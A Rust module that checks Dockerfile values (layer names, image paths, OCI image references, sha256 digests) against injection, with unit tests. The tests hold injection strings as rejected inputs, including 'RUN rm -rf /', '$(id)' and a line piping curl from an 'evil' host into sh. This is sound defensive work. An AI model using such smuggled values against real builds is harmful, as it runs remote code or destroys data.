//! Values that reach a Dockerfile, checked where they enter (the spec, the lock): layer names
//! and paths in the image. None can end the comment or instruction line it is written into, and
//! a path is also quoted wherever it reaches a shell.

/// A layer name: letters, digits, `-`, `_` and `.`.
pub fn check_layer_name(name: &str) -> Result<(), String> {
    let plain = !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b));
    if plain {
        Ok(())
    } else {
        Err(format!(
            "layer name `{name}` must be letters, digits, `-`, `_` or `.`"
        ))
    }
}

/// A path in the image, like `/opt/conda`: absolute, without `..` components or control
/// characters (a line break would end the Dockerfile line it is written into).
pub fn check_image_path(path: &str) -> Result<(), String> {
    if !path.starts_with('/') {
        return Err(format!(
            "`{}` must be an absolute path",
            path.escape_debug()
        ));
    }
    if path.chars().any(char::is_control) {
        return Err(format!(
            "`{}` holds a control character",
            path.escape_debug()
        ));
    }
    if path.split('/').any(|part| part == "..") {
        return Err(format!("`{path}` has a `..` component"));
    }
    Ok(())
}

/// A one-line value, like a package's name, version or URL: `field` holds no control character
/// (a line break would end the Dockerfile line the value is written into).
pub fn check_one_line(field: &str, value: &str) -> Result<(), String> {
    if value.chars().any(char::is_control) {
        Err(format!(
            "`{field}` = `{}` holds a control character (like a line break), which no valid value has",
            value.escape_debug()
        ))
    } else {
        Ok(())
    }
}

/// A sha256 as the lock writes it, like a package's `sha256` or an R package's
/// `binary-sha256`: exactly 64 lowercase hexadecimal digits (so it is one shell word too).
pub fn check_sha256(field: &str, value: &str) -> Result<(), String> {
    if is_sha256(value) {
        Ok(())
    } else {
        Err(format!(
            "has {field} `{}`, which is not 64 lowercase hexadecimal digits",
            value.escape_debug()
        ))
    }
}

/// Whether `value` is 64 lowercase hexadecimal digits.
pub fn is_sha256(value: &str) -> bool {
    let lowercase_hex = |b: u8| b.is_ascii_digit() || (b'a'..=b'f').contains(&b);
    value.len() == 64 && value.bytes().all(lowercase_hex)
}

/// An image reference as `FROM` takes it, by the OCI distribution grammar (docker/distribution's
/// `reference` package): `[registry[:port]/]path[:tag][@sha256:<64 lowercase hex digits>]`, the
/// path's components lowercase letters and digits joined by `.`, `_`, `__` or dashes. Nothing
/// else, so no space, quote or line break can follow `FROM` into the Dockerfile.
pub fn check_image_reference(reference: &str) -> Result<(), String> {
    let shown = reference.escape_debug();
    let (named, digest) = match reference.split_once('@') {
        Some((named, digest)) => (named, Some(digest)),
        None => (reference, None),
    };
    if let Some(digest) = digest {
        let hex = digest.strip_prefix("sha256:").unwrap_or("");
        let lowercase_hex = |b: u8| b.is_ascii_digit() || (b'a'..=b'f').contains(&b);
        if hex.len() != 64 || !hex.bytes().all(lowercase_hex) {
            return Err(format!(
                "`{shown}` has a malformed digest: after `@` comes `sha256:` and 64 lowercase hexadecimal digits"
            ));
        }
    }
    let name = match named.rsplit_once(':') {
        Some((name, tag)) if !tag.contains('/') => {
            check_tag(tag).map_err(|problem| format!("`{shown}`: {problem}"))?;
            name
        }
        _ => named,
    };
    if name.len() > 255 || !is_image_name(name) {
        return Err(format!(
            "`{shown}` is not an image reference: write `[registry[:port]/]path[:tag]@sha256:<digest>`, the path in lowercase letters, digits, `.`, `_` and `-`, like `docker.io/library/debian:12@sha256:<digest>`"
        ));
    }
    Ok(())
}

/// A tag: a letter, digit or `_`, then up to 127 of those, `.` and `-`.
fn check_tag(tag: &str) -> Result<(), String> {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let ok = tag.len() <= 128
        && tag.bytes().next().is_some_and(word)
        && tag.bytes().all(|b| word(b) || b == b'.' || b == b'-');
    if ok {
        Ok(())
    } else {
        Err(format!(
            "the tag `{}` must be letters, digits, `_`, `.` and `-` (at most 128, not starting with `.` or `-`)",
            tag.escape_debug()
        ))
    }
}

/// `[registry[:port]/]path`: a path alone, or a registry and a path.
fn is_image_name(name: &str) -> bool {
    let is_path = |path: &str| path.split('/').all(is_path_component);
    is_path(name)
        || name
            .split_once('/')
            .is_some_and(|(registry, path)| is_registry(registry) && is_path(path))
}

/// A path component: runs of lowercase letters and digits joined by `.`, `_`, `__` or dashes.
fn is_path_component(component: &str) -> bool {
    let alphanumeric = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
    let separators: Vec<&str> = component
        .split(alphanumeric)
        .filter(|s| !s.is_empty())
        .collect();
    let first_and_last = component.starts_with(alphanumeric) && component.ends_with(alphanumeric);
    first_and_last
        && separators
            .iter()
            .all(|s| matches!(*s, "." | "_" | "__") || s.bytes().all(|b| b == b'-'))
}

/// A registry: a host name (components of letters, digits and inner dashes, joined by `.`) or an
/// IPv6 address in brackets, then optionally `:` and a port number.
fn is_registry(registry: &str) -> bool {
    let (host, port) = match registry.rsplit_once(':') {
        Some((host, port)) if !port.contains(']') => (host, Some(port)),
        _ => (registry, None),
    };
    let port_ok = port.is_none_or(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
    let label = |l: &str| {
        !l.is_empty()
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    let ipv6 = host
        .strip_prefix('[')
        .and_then(|h| h.strip_suffix(']'))
        .is_some_and(|h| !h.is_empty() && h.bytes().all(|b| b.is_ascii_hexdigit() || b == b':'));
    port_ok && (ipv6 || host.split('.').all(label))
}

/// A problem with a value of the spec: the byte range it was written at, and what is wrong. The
/// spec turns it into an error located at file, line and column.
pub type SpanProblem = (std::ops::Range<usize>, String);

/// The spec's key `key`, when set: a path in the image checked by [`check_image_path`]; the
/// message names the key and an `example` of an absolute path.
pub fn checked_image_path(
    key: &str,
    value: Option<toml::Spanned<String>>,
    example: &str,
) -> Result<Option<String>, SpanProblem> {
    match value {
        None => Ok(None),
        Some(path) => match check_image_path(path.get_ref()) {
            Ok(()) => Ok(Some(path.into_inner())),
            Err(problem) => Err((
                path.span(),
                format!("{key}: {problem}; give an absolute path in the image, like `{example}`"),
            )),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layer_names_are_plain_words() {
        assert!(check_layer_name("r-core_2.x").is_ok());
        for bad in ["", "a b", "a\nRUN rm -rf /", "a`b", "a/b"] {
            assert!(check_layer_name(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn image_references_follow_the_distribution_grammar() {
        let digest = format!("@sha256:{}", "a".repeat(64));
        for good in [
            "debian",
            "docker.io/library/debian:12",
            "rocker/r-ver:4.2.2",
            "localhost:5000/my_team/app-1.2:v1.0_rc-2",
            "registry.example.com/a/b__c/d.e",
            "[::1]:5000/app:latest",
            "My-Registry.example.com/app",
            "a--b/c",
        ] {
            assert!(check_image_reference(good).is_ok(), "{good}");
            let pinned = format!("{good}{digest}");
            assert!(check_image_reference(&pinned).is_ok(), "{pinned}");
        }
        for bad in [
            "",
            "Debian",
            "debian:latest\nRUN touch /pwned\n#",
            "debian:latest\nRUN touch /pwned\n#@sha256:0",
            "de bian",
            "debian:",
            "debian:-x",
            "debian:a b",
            "//debian",
            "debian/",
            "a._b",
            "-a",
            "a-",
            "$(id)",
            "'debian'",
            "debian@sha256:abc",
            "debian@sha512:0",
            "host:port/app",
            "-host.example/app",
        ] {
            assert!(check_image_reference(bad).is_err(), "{bad:?}");
        }
        let upper = format!("debian@sha256:{}", "A".repeat(64));
        assert!(check_image_reference(&upper).is_err());
        let twice = format!("debian{digest}{digest}");
        assert!(check_image_reference(&twice).is_err());
    }

    #[test]
    fn image_paths_are_absolute_and_stay_on_their_line() {
        assert!(check_image_path("/opt/conda").is_ok());
        assert!(check_image_path("/opt/my jars").is_ok());
        for bad in [
            "opt/conda",
            "/opt/x\nRUN curl evil | sh",
            "/opt/../etc",
            "/opt/\u{7}",
        ] {
            assert!(check_image_path(bad).is_err(), "{bad:?}");
        }
    }
}
